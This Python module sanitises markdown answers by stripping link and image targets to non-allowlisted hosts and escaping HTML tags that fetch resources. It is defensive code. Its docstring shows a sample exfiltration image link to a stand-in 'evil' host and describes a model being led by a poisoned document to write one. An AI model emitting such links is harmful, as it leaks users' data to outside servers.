"""Neutralising markdown links and images that point to hosts not on the allowlist.

A client that renders an answer as markdown fetches every image in it, and a link
can carry what the learner typed or studied to anyone's server
(`![status](http://evil/?q=secret)` quoted from a poisoned document, or written by a
model that read one). Links and images to hosts off the allowlist (none by default)
keep their text and lose their target; reference definitions to such hosts are
dropped; raw HTML tags that fetch or link (`<img>`, `<a>`, `<iframe>`...) are escaped
so that they show as text; autolinks become code.

The link syntax itself (destinations with nested parentheses, `<...>` destinations,
backslash escapes and entities, titles) is read with markdown-it-py's CommonMark
parsers, so a destination is judged exactly as a renderer will read it. The scan is
ours because markdown-it's inline tokens carry no source offsets, and the rest of the
text must stay byte for byte as written.

`neutralise` works on a whole text; `LinkGuard` on a stream of deltas, holding back
only a construct that is still open (a link split across deltas) and never more than
MAX_HELD_CHARS.
"""

import re
from dataclasses import dataclass
from urllib.parse import urlsplit

# The longest link construct held back while it may still be completed; past it, its
# opening bracket is escaped so that it can never become a link afterwards.
MAX_HELD_CHARS = 4096

# Raw HTML that fetches something or links somewhere when rendered.
_RISKY_TAG = re.compile(
    r"<\s*/?\s*(img|image|a|iframe|frame|video|audio|source|track|picture|svg|object|embed|"
    r"link|script|style|form|input|base|meta)\b",
    re.IGNORECASE,
)
_MAY_START_A_CONSTRUCT = re.compile(r"[\[!<\\]")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\s]*)>")


@dataclass(frozen=True)
class LinkPolicy:
    """Which link targets may stay: http(s) to an allowed host (or its subdomains)."""

    allowed_hosts: frozenset[str] = frozenset()

    @classmethod
    def of(cls, hosts) -> "LinkPolicy":
        return cls(frozenset(host.strip().lower().rstrip(".") for host in hosts if host.strip()))

    def allows(self, url: str) -> bool:
        url = url.strip()
        if url.startswith("#"):
            return True  # a place in the answer itself
        try:
            parts = urlsplit(url)
            host = (parts.hostname or "").lower().rstrip(".")
        except ValueError:
            return False
        if parts.scheme.lower() not in ("http", "https") or not host:
            return False
        return any(
            host == allowed or host.endswith("." + allowed) for allowed in self.allowed_hosts
        )


class _Incomplete(Exception):
    """The construct at this position may still be completed by later text."""


@dataclass(frozen=True)
class _Link:
    end: int  # just past the construct
    label: str
    destination: str
    definition: bool = False  # `[label]: destination`, a reference definition


def neutralise(text: str, policy: LinkPolicy) -> str:
    """The text with every link and image to a host off the allowlist neutralised."""
    return _scan(text, policy, final=True, at_line_start=True)[0]


class LinkGuard:
    """`neutralise` over a stream: feed deltas, then flush at the end.

    What `feed` returns, joined with `flush`, is `neutralise` of the whole stream."""

    def __init__(self, policy: LinkPolicy) -> None:
        self.policy = policy
        self._held = ""
        self._at_line_start = True

    def feed(self, delta: str) -> str:
        if not self._held and not _MAY_START_A_CONSTRUCT.search(delta):
            # Most deltas are plain words: nothing to judge, nothing to hold.
            if delta:
                self._at_line_start = delta[-1] == "\n"
            return delta
        text = self._held + delta
        out, cut = _scan(text, self.policy, final=False, at_line_start=self._at_line_start)
        self._held = text[cut:]
        if cut:
            self._at_line_start = text[cut - 1] == "\n"
        return out

    def flush(self) -> str:
        text, self._held = self._held, ""
        return _scan(text, self.policy, final=True, at_line_start=self._at_line_start)[0]

    def reset(self) -> None:
        self._held, self._at_line_start = "", True


def _scan(text: str, policy: LinkPolicy, *, final: bool, at_line_start: bool) -> tuple[str, int]:
    """(neutralised text, how much of `text` it covers): all of it when final, else up
    to the first construct that may still be open."""
    out: list[str] = []
    i = 0
    n = len(text)
    while i < n:
        character = text[i]
        try:
            if character == "\\":
                if i + 1 >= n and not final:
                    raise _Incomplete
                out.append(text[i : i + 2])
                i += 2
                continue
            if character == "!" or character == "[":
                i = _at_bracket(text, i, policy, out, final=final, at_line_start=at_line_start)
                continue
            if character == "<":
                i = _at_angle(text, i, policy, out, final=final)
                continue
        except _Incomplete:
            if n - i > MAX_HELD_CHARS:
                out.append("\\" + character if character in "[<" else character)
                i += 1
                continue
            return "".join(out), i
        out.append(character)
        i += 1
    return "".join(out), n


def _at_bracket(text, i, policy, out, *, final, at_line_start) -> int:
    image = text[i] == "!"
    start = i + 1 if image else i
    if start >= len(text):
        if final:
            out.append(text[i])
            return i + 1
        raise _Incomplete
    if text[start] != "[":
        out.append(text[i])
        return i + 1
    line_start = (i == 0 and at_line_start) or (i > 0 and _only_indent_before(text, i))
    try:
        link = _parse_link(text, start, definition_allowed=line_start and not image)
    except _Incomplete:
        if not final:
            raise
        link = None
    if link is None:
        out.append(text[i : start + 1])
        return start + 1
    inner = neutralise(link.label, policy)
    if policy.allows(link.destination):
        out.append(
            ("!" if image else "") + "[" + inner + text[start + 1 + len(link.label) : link.end]
        )
    elif link.definition:
        pass  # dropped: references to it render as plain text
    else:
        out.append(inner if inner.strip() or not image else "image")
    return link.end


def _only_indent_before(text: str, i: int) -> bool:
    line_begins = text.rfind("\n", 0, i) + 1
    return i - line_begins <= 3 and not text[line_begins:i].strip(" ")


def _parse_link(text: str, start: int, *, definition_allowed: bool) -> _Link | None:
    """The inline link (or reference definition) whose label opens at `start`."""
    # Imported here, not with the module: markdown-it-py's package import builds its
    # whole parser (~0.05 s), and the API imports this module at start-up.
    from markdown_it.helpers import parseLinkDestination, parseLinkTitle

    n = len(text)
    close = _label_end(text, start)
    label = text[start + 1 : close]
    after = close + 1
    if after >= n:
        raise _Incomplete
    if text[after] == "(":
        position = _skip_space(text, after + 1)
        destination = parseLinkDestination(text, position, n)
        if not destination.ok:
            if text.find(")", position) < 0:
                raise _Incomplete
            return None
        position = _skip_space(text, destination.pos)
        if position < n and text[position] != ")":
            title = parseLinkTitle(text, position, n)
            if title.can_continue:
                raise _Incomplete
            if title.ok:
                position = _skip_space(text, title.pos)
        if position >= n:
            raise _Incomplete
        if text[position] != ")":
            return None
        return _Link(position + 1, label, destination.str)
    if text[after] == ":" and definition_allowed:
        position = _skip_space(text, after + 1)
        if position >= n:
            raise _Incomplete
        destination = parseLinkDestination(text, position, n)
        if not destination.ok:
            return None
        if destination.pos >= n:
            raise _Incomplete
        return _Link(destination.pos, label, destination.str, definition=True)
    return None


def _label_end(text: str, start: int) -> int:
    depth = 0
    position = start
    while position < len(text):
        character = text[position]
        if character == "\\":
            position += 2
            continue
        if character == "[":
            depth += 1
        elif character == "]":
            depth -= 1
            if depth == 0:
                return position
        position += 1
    raise _Incomplete


def _skip_space(text: str, position: int) -> int:
    while position < len(text) and text[position] in " \t\n":
        position += 1
    return position


def _at_angle(text, i, policy, out, *, final) -> int:
    close = text.find(">", i)
    if close < 0:
        if not final and "\n" not in text[i:]:
            raise _Incomplete
        out.append("<")
        return i + 1
    autolink = _AUTOLINK.match(text, i)
    if autolink is not None:
        url = autolink.group(1)
        out.append(autolink.group(0) if policy.allows(url) else f"`{url}`")
        return autolink.end()
    if _RISKY_TAG.match(text, i):
        out.append("&lt;")  # shown as text, never rendered as a tag
        return i + 1
    out.append("<")
    return i + 1
